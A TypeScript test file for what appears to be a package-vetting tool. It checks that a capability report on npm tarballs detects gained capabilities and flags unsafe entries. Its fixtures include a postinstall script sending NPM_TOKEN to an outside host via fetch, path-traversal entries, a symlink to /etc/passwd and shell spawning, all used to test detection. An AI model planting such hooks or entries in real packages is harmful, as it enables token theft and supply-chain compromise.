// The request page's capability report on stored tarballs: analysed in memory, compared with the previous
// version, and hostile entries (paths leaving the package, links) listed but never analysed or followed.
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { capabilityReport } from '../src/approval/web/index.js';
import { createTarball } from '../src/registry/index.js';

/** A tarball with raw entries, as a hostile publisher could make it (createTarball refuses these paths). */
function rawTarball(entries: { name: string; type?: '0' | '2' | '5'; data?: string; link?: string }[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const data = Buffer.from(e.data ?? '');
    const h = Buffer.alloc(512);
    h.write(e.name, 0, 100);
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write(e.type ?? '0', 156);
    if (e.link) h.write(e.link, 157, 100);
    h.write('ustar\u000000', 257);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    blocks.push(h, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

describe('capability report of stored tarballs', () => {
  it('counts everything as gained for a first version, from the code and not from its declaration', async () => {
    const tarball = createTarball({
      'package.json': JSON.stringify({ name: 'quiet', version: '1.0.0', packsec: {} }),
      'index.js': 'require("child_process").spawn("sh");\n',
    });
    const report = await capabilityReport('quiet', { current: tarball });
    assert.equal(report.previousVersion, undefined);
    assert.deepEqual(report.capabilities, ['builtins:child_process.spawn']);
    assert.deepEqual(report.gained.map((g) => g.capability), ['builtins:child_process.spawn']);
    assert.deepEqual(report.files.map((f) => [f.path, f.change]), [['index.js', 'added'], ['package.json', 'added']]);
  });

  it('compares with the previous version: capabilities (with the host it now reaches), scripts, dependencies and files', async () => {
    const previous = createTarball({ 'package.json': JSON.stringify({ name: 'pad', version: '1.0.0', dependencies: { ms: '^2.0.0' } }), 'index.js': 'require("fs").readFileSync("x");\n', 'old.js': '' });
    const current = createTarball({
      'package.json': JSON.stringify({ name: 'pad', version: '1.1.0', dependencies: { ms: '^2.1.0', debug: '^4.0.0' }, scripts: { postinstall: 'node setup.js' } }),
      'index.js': 'require("fs").readFileSync("x");\n',
      'setup.js': 'fetch("https://example.test/" + process.env.NPM_TOKEN);\n',
    });
    const report = await capabilityReport('pad', { current, previous: { version: '1.0.0', tarball: previous } });
    assert.equal(report.previousVersion, '1.0.0');
    assert.deepEqual(report.gained.map((g) => g.capability).sort(), ['globals:fetch', 'globals:process.env.NPM_TOKEN', 'net:example.test', 'scripts']);
    assert.equal(report.gained.find((g) => g.capability === 'globals:fetch')?.where, 'node_modules/pad/setup.js:1');
    assert.deepEqual(report.lost, []);
    assert.deepEqual(report.scripts, [{ event: 'postinstall', after: 'node setup.js' }]);
    assert.deepEqual(report.dependencies, { added: { debug: '^4.0.0' }, removed: [], changed: { ms: ['^2.0.0', '^2.1.0'] } });
    assert.deepEqual(report.files.map((f) => [f.path, f.change]), [['index.js', 'same'], ['package.json', 'changed'], ['setup.js', 'added']]);
    assert.deepEqual(report.removedFiles, ['old.js']);
  });

  it('lists entries leaving the package and links as warnings, and never analyses them', async () => {
    const tarball = rawTarball([
      { name: 'package/package.json', data: JSON.stringify({ name: 'sneaky', version: '1.0.0', main: 'index.js' }) },
      { name: 'package/index.js', data: 'module.exports = 1;\n' },
      { name: 'package/../../escape.js', data: 'require("child_process").exec("id");\n' },
      { name: 'package/lib/./x.js', data: 'require("net").connect(1);\n' },
      { name: 'package/link.js', type: '2', link: '/etc/passwd' },
    ]);
    const report = await capabilityReport('sneaky', { current: tarball });
    assert.deepEqual(report.files.map((f) => f.path), ['index.js', 'package.json']);
    assert.deepEqual(report.capabilities, []);
    assert.deepEqual(report.warnings.filter((w) => w.startsWith('not a plain file')).sort(), [
      'not a plain file, not analysed: ../../escape.js (unsafe path)',
      'not a plain file, not analysed: lib/./x.js (unsafe path)',
      'not a plain file, not analysed: link.js (symlink)',
    ]);
  });

  it('refuses a tarball that is not one', async () => {
    await assert.rejects(capabilityReport('x', { current: Buffer.from('not gzip') }), /not a gzip file/);
  });
});
